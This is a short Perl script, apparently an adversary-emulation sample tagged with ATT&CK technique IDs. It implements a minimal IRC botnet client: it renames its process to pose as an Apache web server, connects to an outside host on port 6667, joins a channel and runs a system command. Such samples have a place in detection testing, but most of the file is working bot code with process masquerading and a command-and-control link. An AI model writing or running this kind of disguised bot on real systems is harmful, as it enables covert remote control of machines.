#!/usr/bin/env perl
# title: A bot in Perl, as botnets have had it for decades, under the name of a web server
# technique: T1071.003 T1071 T1095
# needs: perl

use IO::Socket::INET;
$0 = "/usr/sbin/apache2 -k start";
my $s = IO::Socket::INET->new("192.88.99.7:6667");
print $s "NICK x\r\nUSER x x x x\r\nJOIN #c\r\n"; my $line = <$s>; system("id");
